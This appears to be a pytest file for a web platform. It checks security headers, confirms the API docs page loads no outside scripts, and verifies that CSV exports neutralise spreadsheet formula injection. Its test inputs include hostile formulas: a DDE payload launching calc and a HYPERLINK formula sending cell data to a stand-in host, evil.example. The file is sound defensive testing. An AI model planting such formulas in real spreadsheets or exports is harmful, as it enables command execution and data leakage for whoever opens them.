"""What answers let a browser or a spreadsheet do."""

from __future__ import annotations

import csv
import io
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from weir_engine.csv_text import inert
from weir_testing.platform import Platform
from weir_testing.platform.fixtures import SERVED
from weir_testing.platform.world import make_world, operations

API = "/api/v1"


# What goes along with answers is of no database.
@pytest.mark.parametrize("platform_settings", SERVED, indirect=True)
def test_every_answer_tells_browsers_to_run_nothing(platform: Platform, tmp_path: Path) -> None:
    world = make_world(platform, tmp_path)
    streams = {"watch_campaign", "watch_team"}
    asked = [o for o in operations() if o.method == "GET" and o.id not in streams]
    paths = [world.url(each) for each in asked]
    for path in [*paths, f"{API}/nothing", "/", "/metrics", f"{API}/openapi.json"]:
        headers = platform.client("admin").get(path).headers
        assert headers["x-content-type-options"] == "nosniff", path
        assert headers["x-frame-options"] == "DENY", path
        assert "default-src 'none'" in headers["content-security-policy"], path
        assert "unsafe-eval" not in headers["content-security-policy"], path
        assert headers["referrer-policy"] == "same-origin", path


class Loaded(HTMLParser):
    """What a page loads or runs."""

    def __init__(self) -> None:
        super().__init__()
        self.addresses: list[str] = []
        self.nonces: list[str | None] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        address = given.get("src") or (given.get("href") if tag == "link" else None)
        if address:
            self.addresses.append(address)
        elif tag == "script":
            self.nonces.append(given.get("nonce"))


def test_the_reference_loads_nothing_from_elsewhere(platform: Platform) -> None:
    client = platform.client("nobody")
    answer = client.get(f"{API}/docs")
    policy = answer.headers["content-security-policy"]
    page = Loaded()
    page.feed(answer.text)
    assert page.addresses
    for address in page.addresses:
        assert address.startswith("/api/v1/docs/")
        assert client.get(address).status_code == 200
    nonce = re.search(r"'nonce-([^']+)'", policy)
    assert nonce is not None
    assert page.nonces == [nonce[1]]
    assert "unsafe-inline" not in policy.replace("style-src-attr 'unsafe-inline'", "")
    assert "http" not in policy
    for other in ("..%2fcore.py", "redoc.standalone.js", "__init__.py"):
        assert client.get(f"{API}/docs/{other}").status_code == 404


@pytest.mark.parametrize("hostile", ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1"])
def test_text_in_csv_is_no_formula(hostile: str) -> None:
    assert inert(hostile) == f"'{hostile}"
    assert inert(f"a{hostile}") == f"a{hostile}"


@pytest.mark.parametrize("number", ["-5", "+1.5", "-2.5e-3", -5, 0.5, None])
def test_numbers_in_csv_stay_numbers(number: object) -> None:
    assert inert(number) == number


def test_levels_in_the_exported_table_are_no_formulas(platform: Platform, tmp_path: Path) -> None:
    from sqlalchemy import select, update  # noqa: PLC0415
    from weir_orchestrator.db import Combination  # noqa: PLC0415

    world = make_world(platform, tmp_path)
    campaign = world.values["campaign"]
    hostile = '=HYPERLINK("http://evil.example/"&A1)'
    with platform.sessions.begin() as session:
        found = session.scalars(select(Combination).where(Combination.campaign_id == campaign))
        factor = next(iter(found.first().levels))  # type: ignore[union-attr]
        session.execute(update(Combination).values(levels={factor: hostile}))
    answer = platform.client("read").get(f"{API}/campaigns/{campaign}/table.csv")
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert rows
    assert {row[factor] for row in rows} == {f"'{hostile}"}
